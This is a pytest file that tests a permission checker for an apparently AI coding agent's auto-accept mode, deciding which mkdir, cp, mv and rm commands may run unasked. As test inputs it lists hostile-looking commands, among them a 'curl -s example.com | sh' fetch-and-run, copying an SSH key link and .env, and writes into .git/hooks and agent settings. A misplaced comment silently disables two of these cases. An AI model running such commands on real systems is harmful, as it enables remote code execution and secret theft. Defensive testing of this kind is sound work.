"""acceptEdits lets the common filesystem commands (mkdir, touch, cp, mv, rmdir, rm) run without
asking when every file they name is inside the working directories, as in Claude Code — and
nothing else: no folder outside, no link leading out, no protected path, no file a rule guards,
no wrapper, no unknown option or word (``bash_accept_edits.py``)."""

from __future__ import annotations

import os
import subprocess

import pytest

from tests.permissions.conftest import verdict_name
from tests.permissions.tools import decide_bash, make_ctx

DENY = ("Read(./.env)", "Edit(./locked/**)")
ASK = ("Edit(./review/**)",)

RUN_WITHOUT_ASKING = [
    "mkdir build", "mkdir -p build/x", "mkdir -pv a/b", "mkdir -m 755 d", "mkdir --mode=700 d",
    "touch new.txt", "touch -c a.py", "cp a.py b.py", "cp -r sub sub2", "cp -rf sub sub2", "cp -t sub a.py",
    "mv a.py sub/", 'mv a.py "sub/b.py"', "rm a.py", "rm -f a.py missing.txt", "rmdir sub", "rm -- -rf",
    "mkdir out && cp a.py out/", "touch x; rm x", "rm *.py", "cp *.py sub/", "mv {a,b}.py sub/",
]

STILL_ASKED = [
    "touch {outside}/x", "cp a.py {outside}/", "mv a.py ../outside/", "cp -t {outside} a.py",
    "cp --target-directory={outside} a.py", "touch /tmp/jupyter-agent-accept-edits-probe",
    "mv a.py out-link",  # a link inside leading to a file outside
    "cp key copy",  # a link to ~/.ssh/id_rsa: reading outside
    "cp a.py gitlink/",  # a folder link to .git: lands in a protected folder
    "mkdir .git/hooks", "touch .claude/settings.json", "cp a.py .vscode/", "mv a.py .git", "cp a.py .husky/pre-commit", "cp a.py .pre-commit-config.yaml",
    "touch review/x",  # an Edit ask rule
    "rm -rf sub", "rm -r sub", "rm -d sub", "rm -i a.py", "cp -L -r sub s2", "cp -s a.py l", "cp -l a.py l",
    "find . -name a.py | xargs rm", "xargs rm < list.txt", "timeout 5 rm a.py", "nice rm a.py",
    "rm $f", "rm ~/x", "rm *",  # `*` names key and out-link, links leading out 'mkdir -p "$HOME/x"', "cp a.py sub; curl -s example.com | sh",
    "ln -s a.py l", "chmod +x a.py", "sed -i s/a/b/ a.py", "rm", "touch -", "cp a.py --weird sub",
]

DENIED = ["cp .env copy", "cp env-link copy", "touch locked/x", "touch -r .env x", "mv .env x"]


@pytest.fixture
def project(world):
    p = world.project
    for folder in ("locked", "review"):
        (p / folder).mkdir()
    os.symlink(p / ".git", p / "gitlink")
    return p


def _ctx(world, project, mode):
    return make_ctx(project, mode=mode, deny=DENY, ask=ASK)


@pytest.mark.parametrize("mode", ["acceptEdits", "auto"])
@pytest.mark.parametrize("command", RUN_WITHOUT_ASKING)
async def test_filesystem_commands_inside_run_without_asking(world, project, mode, command):
    verdict = await decide_bash(_ctx(world, project, mode), command)
    assert verdict_name(verdict) == "allow", (command, verdict)


@pytest.mark.parametrize("command", RUN_WITHOUT_ASKING)
async def test_other_modes_still_ask(world, project, command):
    assert verdict_name(await decide_bash(_ctx(world, project, "default"), command)) == "ask"
    assert verdict_name(await decide_bash(_ctx(world, project, "plan"), command)) == "deny"


@pytest.mark.parametrize("command", STILL_ASKED)
async def test_anything_else_still_asks(world, project, command):
    command = command.format(outside=world.outside)
    verdict = await decide_bash(_ctx(world, project, "acceptEdits"), command)
    assert verdict_name(verdict) == "ask", (command, verdict)


@pytest.mark.parametrize("command", DENIED)
async def test_rules_still_deny_or_ask_before_the_mode(world, project, command):
    verdict = await decide_bash(_ctx(world, project, "acceptEdits"), command)
    assert verdict_name(verdict) in ("deny", "ask"), (command, verdict)


async def test_a_pattern_naming_an_option_asks(tmp_path):
    """`rm *` beside a file named -rf is `rm -rf ...`: a pattern that expands to a word starting
    with "-" asks, whatever the program."""
    (tmp_path / "x.tmp").write_text("x")
    (tmp_path / "-rf").write_text("x")
    (tmp_path / "keep").mkdir()
    ctx = make_ctx(tmp_path, mode="acceptEdits")
    assert verdict_name(await decide_bash(ctx, "rm *")) == "ask"
    assert verdict_name(await decide_bash(ctx, "rm *.tmp")) == "allow"
    assert verdict_name(await decide_bash(ctx, "rm ./*")) == "allow"  # ./-rf is a file name
    (tmp_path / "-rf").unlink()
    assert verdict_name(await decide_bash(ctx, "rm -f *")) == "allow"  # x.tmp keep: rm -f fails on a folder


async def test_what_runs_stays_inside(world, project):
    """The allowed lines, run by real bash in the project: nothing outside changes, the files
    they name are made, copied, moved and removed as the decision assumed."""
    outside_before = sorted(os.listdir(world.outside))
    home_before = sorted(os.listdir(world.home))
    lines = ["mkdir build", "mkdir -p build/x", "mkdir -pv a/b", "mkdir -m 755 d", "touch new.txt", "cp a.py b.py",
             "cp -r sub sub2", "cp -t sub a.py", 'mv a.py "sub/b.py"', "rm -f a.py missing.txt", "rmdir sub2",
             "mkdir out && cp a.py out/", "touch x; rm x"]
    for command in lines:
        (project / "a.py").write_text("print(1)\n")
        assert verdict_name(await decide_bash(_ctx(world, project, "acceptEdits"), command)) == "allow"
        done = subprocess.run(["bash", "-c", command], cwd=project, capture_output=True, text=True)
        assert done.returncode == 0, (command, done.stderr)
    assert sorted(os.listdir(world.outside)) == outside_before
    assert sorted(os.listdir(world.home)) == home_before
    assert (project / "build" / "x").is_dir() and (project / "b.py").exists() and (project / "sub" / "b.py").exists()
    assert not (project / "sub2").exists() and (project / "out" / "a.py").exists() and not (project / "x").exists()
    assert (project / ".git" / "config").read_text() == "[core]\n"
